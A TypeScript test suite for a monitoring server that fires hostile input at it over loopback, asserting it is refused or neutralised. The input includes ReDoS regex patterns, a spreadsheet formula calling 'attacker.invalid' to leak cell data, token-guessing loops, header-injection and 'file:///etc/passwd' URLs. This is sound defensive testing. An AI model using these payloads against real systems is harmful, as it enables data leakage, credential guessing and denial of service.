/**
 * Hostile and careless input at a running server, sent for real over
 * loopback: each attack class the way an outsider (or a broken client) would
 * send it, with /healthz watched meanwhile. Timings are printed, never
 * asserted; what is asserted is the answer (a clear 4xx, a close code), that
 * the server keeps answering, and that nothing is stored from bad input.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConfigError, parseTopology } from '../../topology/index.js';
import { defaultCollectorLimits, defaultFailedAuthLimits } from '../../collector/index.js';
import { CONTENT_TYPES } from '../../api/network-metrics/index.js';
import { silenceMatches } from '../../api/alerts/silences.js';
import { parseRfc4180 } from '../helpers/rfc4180.js';
import { HealthWatch, printAttackSummary, requestFrom, type AttackFigures } from '../helpers/hostile.js';
import { startTestServer, testTopology, type TestServer } from '../helpers/stack.js';
import { twoCentreTopology } from '../helpers/topology-yaml.js';
import { RawClient } from '../helpers/ws-client.js';

// Centre ids long enough for a backtracking regex to take forever on them (`[a-z][a-z0-9-]*` allows it).
const LONG_A = `${'a'.repeat(30)}-x`;
const CENTRES = [LONG_A, 'bravo'];
const base = testTopology(CENTRES, '127.0.91');
// A centre name a spreadsheet would run as a formula.
const FORMULA_NAME = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"open")';
const yaml = base.yaml.replace(`name: Centre ${LONG_A}`, `name: '${FORMULA_NAME}'`) +
  'alerts:\n  external_url: https://noc.example\n  rules:\n    probe_silent: { for: 60s }\n';
const topology = parseTopology(yaml, 'hostile.yaml');

const figures: Record<string, AttackFigures> = {};
const slow = (b: { burst: number }) => ({ burst: b.burst, perSecond: 0.0001 });
const AUTH_LIMITS = {
  perAddress: slow(defaultFailedAuthLimits.perAddress),
  perCredential: slow(defaultFailedAuthLimits.perCredential),
  global: slow(defaultFailedAuthLimits.global),
};
let slowestAlertsMs = 0;
let slowestMatcherMs = 0;
let server: TestServer;

beforeAll(async () => {
  // The production bursts for every failed-credential budget, with next to no refill, so what the
  // budgets allow does not depend on how fast a loaded machine sends the attack.
  server = await startTestServer(topology, { failedAuthLimits: AUTH_LIMITS, rateLimit: { perSecond: 50, burst: 200 } });
  await server.alerts.stop(); // evaluated on demand below (GET /v1/alerts), not on the 15 s timer
});
afterAll(async () => {
  await server?.stop();
  printAttackSummary('hostile input: attacks per class and /healthz meanwhile', figures, {
    'slowest single matcher (RE2, hostile pattern, 1001-character value)': `${slowestMatcherMs.toFixed(2)} ms`,
    'slowest GET /v1/alerts with every hostile silence stored (its ClickHouse queries included)': `${slowestAlertsMs.toFixed(1)} ms`,
  });
});

const op = () => ({ authorization: `Bearer ${base.operatorToken}` });

async function call(method: string, path: string, body?: unknown, from?: string): Promise<{ status: number; headers: Record<string, unknown>; json: Record<string, unknown> }> {
  const r = await requestFrom(`${server.url}${path}`, {
    method, localAddress: from,
    headers: { ...op(), ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  let json: Record<string, unknown> = {};
  try {
    json = JSON.parse(r.text) as Record<string, unknown>;
  } catch {
    json = { text: r.text };
  }
  return { status: r.status, headers: r.headers, json };
}

describe('silence matchers: a backtracking pattern cannot freeze the server', () => {
  // Exponential in a backtracking engine on a 32-character value of a's; linear in RE2.
  const EVIL = ['(a+)+', '(a|aa)+', '(a|a)+', '(a*)*b', '((a+)+)+', '(.*a){25}', '(a|a?)+', '([a-z]+)*-y'];

  it('silences with nested quantifiers are stored and evaluated; /v1/alerts and /healthz keep answering', async () => {
    const watch = new HealthWatch(server.url);
    let attacks = 0;
    for (const pattern of EVIL) {
      const created = await call('POST', '/v1/alerts/silences', {
        matchers: [{ name: 'alertname', value: 'ProbeSilent' }, { name: 'centre', value: pattern, isRegex: true }],
        duration: '1h', comment: `hostile ${pattern}`,
      });
      attacks++;
      expect(created.status, JSON.stringify(created.json)).toBe(201);
    }
    // Evaluation: every alert's labels against every silence.
    for (let i = 0; i < 5; i++) {
      const t0 = performance.now();
      const alerts = await call('GET', '/v1/alerts');
      slowestAlertsMs = Math.max(slowestAlertsMs, performance.now() - t0);
      attacks++;
      expect(alerts.status).toBe(200);
      const silent = (alerts.json.alerts as { labels: Record<string, string>; silencedBy: string[] }[]).find((a) => a.labels.centre === LONG_A);
      expect(silent, 'the never-seen centre is shown as ProbeSilent').toBeDefined();
    }
    // And a silence tick on the server's own evaluator path.
    expect(await server.alerts.evaluate(Date.now())).toBeTruthy();
    const health = await watch.stop();
    expect(health.failures).toBe(0);
    figures['silence regex (backtracking)'] = { attacks, health };
  });

  it('the matcher is linear: a 1000-character value against each pattern (measured, printed)', () => {
    const value = { centre: 'a'.repeat(1000) + '!' };
    for (const pattern of EVIL) {
      const t0 = performance.now();
      expect(silenceMatches([{ name: 'centre', value: pattern, isRegex: true, isEqual: true }], value)).toBe(false);
      slowestMatcherMs = Math.max(slowestMatcherMs, performance.now() - t0);
    }
  });

  it('syntax that needs backtracking (backreferences, lookaround) is refused naming the matcher', async () => {
    for (const pattern of ['(a)\\1', 'a(?=b)', 'a(?<!b)']) {
      const r = await call('POST', '/v1/alerts/silences', {
        matchers: [{ name: 'centre', value: pattern, isRegex: true }], duration: '1h', comment: 'x',
      });
      expect(r.status).toBe(400);
      expect(String(r.json.reason)).toMatch(/^matchers\[0\]\.value: not a valid regular expression \(RE2/);
    }
  });
});

describe('response headers', () => {
  it('every kind of answer carries CSP with frame-ancestors, X-Frame-Options, nosniff and Referrer-Policy; API and /metrics are no-store', async () => {
    const cases: [string, Record<string, string>, boolean][] = [
      ['/', {}, false],
      ['/regulator.html', {}, false],
      ['/healthz', {}, false],
      ['/v1/centres', op(), true],
      ['/v1/status', op(), true],
      ['/v1/status', {}, true], // 401 too
      ['/v1/nope', op(), true], // 404 too
      ['/metrics', op(), true],
      ['/v1/sla/public-key', {}, true],
    ];
    for (const [path, headers, noStore] of cases) {
      const r = await requestFrom(`${server.url}${path}`, { headers });
      const csp = String(r.headers['content-security-policy']);
      expect(csp, path).toContain("frame-ancestors 'none'");
      expect(csp, path).toContain("script-src 'self'");
      expect(csp, path).toContain("default-src 'self'");
      expect(r.headers['x-frame-options'], path).toBe('DENY');
      expect(r.headers['x-content-type-options'], path).toBe('nosniff');
      expect(r.headers['referrer-policy'], path).toBe('no-referrer');
      if (noStore) expect(r.headers['cache-control'], path).toBe('no-store');
    }
  });
});

describe('writes only as application/json', () => {
  it('a form post, text/plain or a body without Content-Type is answered 415, and nothing is created', async () => {
    const watch = new HealthWatch(server.url);
    const body = JSON.stringify({ matchers: [{ name: 'alertname', value: 'LinkDown' }], duration: '1h', comment: 'csrf' });
    const before = ((await call('GET', '/v1/alerts/silences')).json.silences as unknown[]).length;
    let attacks = 0;
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/jsonx', undefined]) {
      for (const path of ['/v1/alerts/silences', '/v1/sla/maintenance', '/v1/ingest']) {
        const r = await requestFrom(`${server.url}${path}`, {
          method: 'POST', body, headers: { ...op(), ...(type ? { 'content-type': type } : {}) },
        });
        attacks++;
        expect(r.status, `${path} ${type}`).toBe(415);
        expect(JSON.parse(r.text)).toMatchObject({ error: 'unsupported_media_type' });
      }
    }
    expect(((await call('GET', '/v1/alerts/silences')).json.silences as unknown[]).length).toBe(before);
    // A bodyless POST needs no Content-Type; application/json with parameters is JSON.
    const charset = await requestFrom(`${server.url}/v1/alerts/silences`, { method: 'POST', body, headers: { ...op(), 'content-type': 'Application/JSON; charset=utf-8' } });
    expect(charset.status).toBe(201);
    figures['content type (CSRF-style writes)'] = { attacks, health: await watch.stop() };
  });
});

describe('CSV formula injection', () => {
  it('a centre name starting with "=" reaches the regulator CSV neutralised, and the file is still RFC 4180', async () => {
    const month = new Date().toISOString().slice(0, 7);
    const r = await requestFrom(`${server.url}/v1/sla/months/${month}?format=csv`, { headers: { authorization: `Bearer ${base.regulatorToken}` } });
    expect(r.status).toBe(200);
    const records = parseRfc4180(r.text);
    const header = records[0]!;
    const names = records.slice(1).map((rec) => rec[header.indexOf('name')]!);
    expect(names).toContain(`'${FORMULA_NAME}`);
    for (const record of records) for (const field of record) expect(field, 'no field starts a formula').not.toMatch(/^[=+@\t\r]/);
    figures['CSV formula injection'] = { attacks: 1, health: { samples: 0, p50Ms: NaN, p99Ms: NaN, maxMs: NaN, failures: 0 }, note: 'static: no load' };
  });
});

describe('failed credentials: limited per address, per credential and in total', () => {
  it('guesses spread over 100 loopback addresses hit the global budget: 429 with Retry-After, and a known operator still gets in', async () => {
    // The operator has authenticated from 127.0.0.1 before (above): that address is exempt from the global budget.
    const watch = new HealthWatch(server.url);
    const statuses: number[] = [];
    let retryAfter: unknown;
    for (let i = 0; i < 300; i++) {
      const from = `127.0.92.${(i % 100) + 2}`;
      const r = await requestFrom(`${server.url}/v1/status`, { localAddress: from, headers: { authorization: `Bearer guess-${i}` } });
      statuses.push(r.status);
      if (r.status === 429) retryAfter ??= r.headers['retry-after'];
    }
    const limited = statuses.filter((s) => s === 429).length;
    expect(statuses.filter((s) => s === 401).length).toBe(AUTH_LIMITS.global.burst);
    expect(limited).toBeGreaterThan(0);
    expect(Number(retryAfter)).toBeGreaterThanOrEqual(1);
    expect((await call('GET', '/v1/status')).status).toBe(200);
    figures['token guessing, HTTP, 100 addresses'] = { attacks: 300, health: await watch.stop(), note: `${limited} answered 429` };
  });

  it('one address guessing is limited by its own budget; the same wrong token from many addresses by the credential budget', async () => {
    let limited = 0;
    for (let i = 0; i < defaultFailedAuthLimits.perAddress.burst + 5; i++) {
      const r = await requestFrom(`${server.url}/v1/centres`, { localAddress: '127.0.93.2', headers: { authorization: `Bearer one-address-${i}` } });
      if (r.status === 429) {
        limited++;
        expect(JSON.parse(r.text).reason).toMatch(/from this address|on this server/);
      }
    }
    expect(limited).toBeGreaterThan(0);
  });

  it('probe hellos are attempts too: guessing a centre\'s token over WebSocket is closed 4429 once the budget is spent', async () => {
    const watch = new HealthWatch(server.url);
    const codes: number[] = [];
    for (let i = 0; i < 40; i++) {
      const client = await RawClient.open(server.wsUrl, { localAddress: '127.0.94.2' });
      client.send({ type: 'hello', centre: 'bravo', token: `guess-${i}`, version: 'x' });
      const reply = await client.next<{ code: string }>();
      codes.push((await client.waitClosed()).code);
      expect(['bad_token', 'rate_limited']).toContain(reply.code);
    }
    expect(codes).toContain(4429);
    expect(codes.filter((c) => c === 4401).length).toBeLessThanOrEqual(AUTH_LIMITS.perAddress.burst);
    figures['token guessing, WebSocket hellos'] = { attacks: 40, health: await watch.stop(), note: `${codes.filter((c) => c === 4429).length} closed 4429` };
  });
});

describe('unauthenticated WebSockets: a budget per address and in total, only a hello-sized message read', () => {
  it('megabyte messages before hello are not parsed: the connection is closed 1009; /healthz keeps answering', async () => {
    const watch = new HealthWatch(server.url);
    const big = JSON.stringify({ type: 'batch', batchId: 'b', samples: Array.from({ length: 20_000 }, (_, i) => ({ trainId: `t${i}`, dst: 'bravo', pad: 'x'.repeat(60) })) });
    expect(big.length).toBeGreaterThan(1_000_000);
    let attacks = 0;
    for (let i = 0; i < 22; i++) {
      const client = await RawClient.open(server.wsUrl, { localAddress: `127.0.95.${(i % 4) + 2}` });
      client.send(big);
      const reply = await client.next<{ code: string }>();
      expect(reply.code).toBe('too_large');
      expect((await client.waitClosed()).code).toBe(1009);
      attacks++;
    }
    figures['pre-auth megabyte messages'] = { attacks, health: await watch.stop() };
  });

  it('connections that never say hello: the ninth from one address is refused 429 at the upgrade; closing one frees a place', async () => {
    const watch = new HealthWatch(server.url);
    const idle: RawClient[] = [];
    for (let i = 0; i < defaultCollectorLimits.maxUnauthenticatedPerAddress; i++) idle.push(await RawClient.open(server.wsUrl, { localAddress: '127.0.96.2' }));
    await expect(RawClient.open(server.wsUrl, { localAddress: '127.0.96.2' })).rejects.toThrow(/429/);
    // Another address still gets in, and says hello: an authenticated connection leaves the budget.
    const other = await RawClient.open(server.wsUrl); // from 127.0.0.1, which has authenticated before: the global budget the guessing above spent does not apply
    // (Not bravo: the hello-guessing test above spent bravo's credential budget.)
    other.send({ type: 'hello', centre: LONG_A, token: base.tokens[LONG_A], version: 'x' });
    expect(await other.next()).toMatchObject({ type: 'plan' });
    idle[0]!.close();
    await idle[0]!.waitClosed();
    const again = await waitForOpen('127.0.96.2');
    for (const c of [...idle.slice(1), other, again]) c.close();
    figures['pre-auth idle connections'] = { attacks: idle.length + 1, health: await watch.stop() };
  });
});

describe('metrics endpoints: query parameters and Accept headers', () => {
  const NETWORK_FORMAT = /^format: /;
  // [query string, status /metrics/network answers, its reason's start when refused]
  const queries: [string, number, RegExp | null][] = [
    ['', 200, null],
    ['format=openmetrics', 200, null],
    ['format=prometheus&target=x&module=y', 200, null], // other parameters are ignored, as exporters do
    ['format=json', 400, NETWORK_FORMAT],
    ['format=', 400, NETWORK_FORMAT],
    ['format=OPENMETRICS', 400, NETWORK_FORMAT],
    ['format=prometheus%20', 400, NETWORK_FORMAT],
    ['format=%00', 400, NETWORK_FORMAT],
    ['format=%ED%A0%80', 400, NETWORK_FORMAT], // a lone surrogate, as UTF-8 would carry it (invalid UTF-8)
    ['format=%uD800', 400, NETWORK_FORMAT],
    ['format=%F0%9F', 400, NETWORK_FORMAT], // truncated UTF-8
    ['format=%', 400, NETWORK_FORMAT],
    ['format=%E2%80%AE%F0%9F%92%A3', 400, NETWORK_FORMAT],
    [`format=${'x'.repeat(6000)}`, 400, /^format: "x{40}"… \(6000 characters\) is not a format/],
    [`format=${'%F0%9F%92%A3'.repeat(500)}`, 400, NETWORK_FORMAT],
    ['format=openmetrics&format=prometheus', 400, /^format: given 2 times/],
    ['format=prometheus&format=prometheus', 400, /^format: given 2 times/],
    [Array.from({ length: 500 }, () => 'format=openmetrics').join('&'), 400, /^format: given 500 times/],
    ['format[]=openmetrics', 200, null],
    ['format=openmetrics&format[x]=1&__proto__=1&constructor=1', 200, null],
    [Array.from({ length: 1000 }, (_, i) => `p${i}=${i}`).join('&'), 200, null],
  ];

  it('junk, huge, undecodable and repeated parameters get a 400 naming format, or are ignored; never a 5xx', async () => {
    const watch = new HealthWatch(server.url);
    let attacks = 0;
    for (const [query, status, reason] of queries) {
      const r = await requestFrom(`${server.url}/metrics/network?${query}`, { headers: op() });
      attacks++;
      const what = `/metrics/network?${query.slice(0, 80)}`;
      expect(r.status, what).toBe(status);
      if (reason) {
        const body = JSON.parse(r.text) as { error: string; reason: string };
        expect(body.error, what).toBe('bad_request');
        expect(body.reason, what).toMatch(reason);
        expect(body.reason.length, `${what}: the refused value is not echoed whole`).toBeLessThan(200);
        expect(body.reason, `${what}: no lone surrogate`).not.toMatch(/\p{Cs}/u);
      } else {
        expect(String(r.headers['content-type']), what).toMatch(/^(text\/plain; version=0\.0\.4|application\/openmetrics-text; version=1\.0\.0)/);
      }
      // The server's own /metrics has no parameters: every one of them is ignored.
      const own = await requestFrom(`${server.url}/metrics?${query}`, { headers: op() });
      attacks++;
      expect(own.status, `/metrics?${query.slice(0, 80)}`).toBe(200);
    }
    // A request line longer than the server reads (Node's 16 KiB header limit) is refused before any handler: 431.
    const huge = await requestFrom(`${server.url}/metrics/network?format=${'y'.repeat(40_000)}`, { headers: op() });
    attacks++;
    expect(huge.status).toBe(431);
    figures['metrics query parameters'] = { attacks, health: await watch.stop() };
  });

  it('junk Accept headers fall back to text 0.0.4 or pick OpenMetrics by q-value, never a 5xx', async () => {
    const cases: [string, 'prometheus' | 'openmetrics'][] = [
      ['', 'prometheus'],
      [';;;,,,;q=', 'prometheus'],
      ['application/openmetrics-text;q=NaN', 'prometheus'],
      ['application/openmetrics-text;q=1e309', 'prometheus'],
      ['application/openmetrics-text;q=-1, text/plain;q=0.1', 'prometheus'],
      ['application/openmetrics-text;version=9.9.9;q=0.9, text/plain;q=0.5', 'openmetrics'],
      [`${'text/html;q=0.1,'.repeat(500)}application/openmetrics-text`, 'openmetrics'],
      ['\u00e9\u00e8;q=\u00ff', 'prometheus'],
    ];
    for (const [accept, format] of cases) {
      const r = await requestFrom(`${server.url}/metrics/network`, { headers: { ...op(), accept } });
      expect(r.status, accept.slice(0, 60)).toBe(200);
      expect(String(r.headers['content-type']), accept.slice(0, 60)).toBe(CONTENT_TYPES[format]);
    }
  });
});

describe('the Alertmanager configuration (alerts.alertmanagers in the topology)', () => {
  const topologyText = (alertmanagers: string) => `${twoCentreTopology()}alerts:\n  alertmanagers:${alertmanagers}`;
  const entry = (fields: string) => `\n    - { ${fields} }`;
  // [what, the alertmanagers section, the path named, what the message says]
  const cases: [string, string, string, RegExp][] = [
    ['an ftp URL', entry('url: "ftp://127.0.0.1:9093"'), 'alerts.alertmanagers[0].url', /must be an http:\/\/ or https:\/\/ base URL/],
    ['a file URL', entry('url: "file:///etc/passwd"'), 'alerts.alertmanagers[0].url', /must be an http:\/\/ or https:\/\/ base URL/],
    ['a javascript: URL', entry('url: "javascript:alert(1)"'), 'alerts.alertmanagers[0].url', /must be an http/],
    ['no host', entry('url: "http://"'), 'alerts.alertmanagers[0].url', /must be an http/],
    ['a port out of range', entry('url: "http://127.0.0.1:99999"'), 'alerts.alertmanagers[0].url', /must be an http/],
    ['a query', entry('url: "http://127.0.0.1:9093/?silence=all"'), 'alerts.alertmanagers[0].url', /without query/],
    ['a relative path', entry('url: "/api/v2/alerts"'), 'alerts.alertmanagers[0].url', /must be an http/],
    ['a NUL byte', entry('url: "http://127.0.0.1:9093/\\u0000"'), 'alerts.alertmanagers[0].url', /spaces or control characters/],
    ['a newline (header injection)', entry('url: "http://127.0.0.1:9093/\\r\\nX-Evil: 1"'), 'alerts.alertmanagers[0].url', /spaces or control characters/],
    ['credentials in the URL', entry('url: "http://admin:secret@127.0.0.1:9093"'), 'alerts.alertmanagers[0].url', /must not hold credentials/],
    ['a lone surrogate', entry('url: "http://127.0.0.1:9093/\\uDC00"'), 'alerts.alertmanagers[0].url', /lone UTF-16 surrogate/],
    ['a 200 KB URL', entry(`url: "http://127.0.0.1:9093/${'a'.repeat(200_000)}"`), 'alerts.alertmanagers[0].url', /at most 2048 characters \(this one has 200022\)/],
    ['a number', entry('url: 9093'), 'alerts.alertmanagers[0].url', /expected string, received number/],
    ['no URL', entry('timeout: 5s'), 'alerts.alertmanagers[0].url', /expected string/],
    ['an unknown key', entry('url: "http://127.0.0.1:9093", urls: ["http://127.0.0.2:9093"]'), 'alerts.alertmanagers[0]', /unknown key\(s\) "urls"/],
    ['one URL instead of a list', ' "http://127.0.0.1:9093"', 'alerts.alertmanagers', /^Invalid input: expected array, received string$/],
    ['ten thousand entries', entry('url: "ftp://127.0.0.1:9093"').repeat(10_000), 'alerts.alertmanagers', /^at most 10 Alertmanagers$/],
    ['the same Alertmanager twice', entry('url: "http://127.0.0.1:9093"') + entry('url: "http://127.0.0.1:9093/"'), 'alerts.alertmanagers[1].url', /duplicate Alertmanager/],
    ['timeout 0', entry('url: "http://127.0.0.1:9093", timeout: 0'), 'alerts.alertmanagers[0].timeout', /0s is out of range: must be between 100ms and 1m/],
    ['timeout 50ms', entry('url: "http://127.0.0.1:9093", timeout: 50ms'), 'alerts.alertmanagers[0].timeout', /50ms is out of range/],
    ['timeout 61s', entry('url: "http://127.0.0.1:9093", timeout: 61s'), 'alerts.alertmanagers[0].timeout', /1m1s is out of range/],
    ['timeout -5', entry('url: "http://127.0.0.1:9093", timeout: -5'), 'alerts.alertmanagers[0].timeout', /is not a duration/],
    ['timeout .inf', entry('url: "http://127.0.0.1:9093", timeout: .inf'), 'alerts.alertmanagers[0].timeout', /must be a duration/],
    ['timeout .nan', entry('url: "http://127.0.0.1:9093", timeout: .nan'), 'alerts.alertmanagers[0].timeout', /must be a duration/],
    ['timeout of 10^23 days', entry('url: "http://127.0.0.1:9093", timeout: 99999999999999999999999d'), 'alerts.alertmanagers[0].timeout', /^"99999999999999999999999d" is out of range/],
    ['timeout of 5000 digits', entry(`url: "http://127.0.0.1:9093", timeout: "${'9'.repeat(5000)}s"`), 'alerts.alertmanagers[0].timeout', /^"9{40}…" is out of range/],
    ['a 100 KB variable name', entry(`url: "http://127.0.0.1:9093", bearer_token_env: ${'A'.repeat(100_000)}`), 'alerts.alertmanagers[0].bearer_token_env', /must be an environment variable name/],
    ['an unset token variable', entry('url: "http://127.0.0.1:9093", bearer_token_env: AM_TOKEN_NOT_SET'), 'alerts.alertmanagers[0].bearer_token_env', /AM_TOKEN_NOT_SET is not set/],
  ];

  it('every bad entry is refused naming its field, with a message of reasonable size', () => {
    for (const [what, section, path, message] of cases) {
      let error: unknown = null;
      try {
        parseTopology(topologyText(section), 'am.yaml', { env: {} });
      } catch (e) {
        error = e;
      }
      expect(error, what).toBeInstanceOf(ConfigError);
      const problems = (error as ConfigError).problems;
      expect(problems.map((p) => p.path), what).toContain(path);
      expect(problems.find((p) => p.path === path)!.message, what).toMatch(message);
      expect((error as Error).message.length, `${what}: the message is not the input again`).toBeLessThan(2000);
    }
  });

  it('URLs anywhere are allowed in the file (an Alertmanager is rarely on the same host); nothing is contacted by reading it', () => {
    const topology = parseTopology(topologyText(entry('url: "https://am-1.noc.example:9093/prefix/"') + entry('url: "http://[::1]:9093"')), 'am.yaml', { env: {} });
    expect(topology.alerts!.alertmanagers.map((a) => a.url)).toEqual(['https://am-1.noc.example:9093/prefix', 'http://[::1]:9093']);
  });

  it('the real CLI refuses a hostile file with the first problems and exit status 1, no stack trace', () => {
    const dir = mkdtempSync(join(tmpdir(), 'citymesh-am-'));
    try {
      const cases = [
        ['bad entries', entry('url: "ftp://127.0.0.1:9093", timeout: 0').repeat(5), /alerts\.alertmanagers\[4\]\.timeout: 0s is out of range/],
        ['a huge list', entry('url: "gopher://127.0.0.1:70"').repeat(10_000), /alerts\.alertmanagers: at most 10 Alertmanagers/],
      ] as const;
      for (const [what, section, message] of cases) {
        const file = join(dir, 'topology.yaml');
        writeFileSync(file, topologyText(section));
        const run = spawnSync(process.execPath, ['bin/citymesh.js', 'config', 'check', file], { encoding: 'utf8', timeout: 60_000 });
        expect(run.status, `${what}: ${run.stderr}`).toBe(1);
        expect(run.stderr, what).toMatch(/^citymesh: invalid topology /);
        expect(run.stderr, what).toMatch(message);
        expect(run.stderr, what).not.toMatch(/\n\s+at /);
        expect(run.stderr.length, what).toBeLessThan(4000);
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

/** The server frees the place when it sees the close; poll until it has. */
async function waitForOpen(from: string): Promise<RawClient> {
  for (let i = 0; ; i++) {
    try {
      return await RawClient.open(server.wsUrl, { localAddress: from });
    } catch (error) {
      if (i > 100) throw error;
      await new Promise((r) => setTimeout(r, 100));
    }
  }
}
